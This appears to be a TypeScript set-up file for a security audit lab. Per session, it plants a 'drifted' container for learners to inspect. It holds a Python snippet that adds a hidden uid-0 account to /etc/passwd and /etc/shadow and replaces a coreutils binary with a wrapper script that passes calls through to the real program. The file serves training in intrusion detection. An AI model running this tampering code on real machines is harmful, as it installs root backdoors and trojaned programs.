// What the audit lab's set-up did to its "drifted" container, chosen per session so that an
// answer carries over between learners no better than a guess: a uid-0 account with its own
// name, and one packaged program, rarely run, replaced by a script of the attacker's. The
// values reach the container from the host's side (labs/shared/planted-value.ts).
import { createHash } from 'node:crypto';
import { sessionChoice } from '../../server/lab-kit.ts';

/** Coreutils programs nobody misses for an hour; each is listed in dpkg's md5sums. */
export const REPLACEABLE = [
  '/usr/bin/pinky',
  '/usr/bin/users',
  '/usr/bin/logname',
  '/usr/bin/tsort',
  '/usr/bin/ptx',
  '/usr/bin/fold',
  '/usr/bin/fmt',
  '/usr/bin/nl',
  '/usr/bin/pr',
  '/usr/bin/shuf',
  '/usr/bin/tac',
  '/usr/bin/sum',
  '/usr/bin/cksum',
  '/usr/bin/comm',
  '/usr/bin/join',
  '/usr/bin/paste',
  '/usr/bin/csplit',
  '/usr/bin/expand',
  '/usr/bin/unexpand',
  '/usr/bin/factor',
  '/usr/bin/nproc',
  '/usr/bin/tty',
  '/usr/bin/dircolors',
  '/usr/bin/pathchk',
] as const;

/** The backdoor account's name: "svc-" and six hex digits of this session's own. */
export function backdoorAccount(token: string): string {
  return `svc-${createHash('sha256').update(`audit:account:${token}`).digest('hex').slice(0, 6)}`;
}

/** The packaged program this session's attacker replaced. */
export function replacedProgram(token: string): string {
  return sessionChoice(token, 'audit:replaced', REPLACEABLE);
}

/** The two values set-up plants, as one line: "<account> <program>". */
export function driftValue(token: string): string {
  return `${backdoorAccount(token)} ${replacedProgram(token)}`;
}

/**
 * Python (run with `planted` = driftValue) that does what an intruder did: a second uid-0
 * account in /etc/passwd and /etc/shadow, and a packaged program swapped for a script that
 * still does the program's job, so nothing looks broken.
 */
export const TAMPER = `account, program = planted.split()
with open("/etc/passwd", "a") as f:
    f.write(account + ":x:0:0:backup service:/root:/bin/bash\\n")
with open("/etc/shadow", "a") as f:
    f.write(account + ":$6$nslab$Qk1vT0cZ0LkW1p3E2bXy7u:19700:0:99999:7:::\\n")
real = program + ".real"
os.rename(program, "/usr/lib/" + os.path.basename(real))
with open(program, "w") as f:
    f.write("#!/bin/sh\\n# collector: copy the caller's environment, then run the real one\\n"
            "env > /dev/null 2>&1\\nexec /usr/lib/" + os.path.basename(real) + " \\"$@\\"\\n")
os.chmod(program, 0o755)
`;
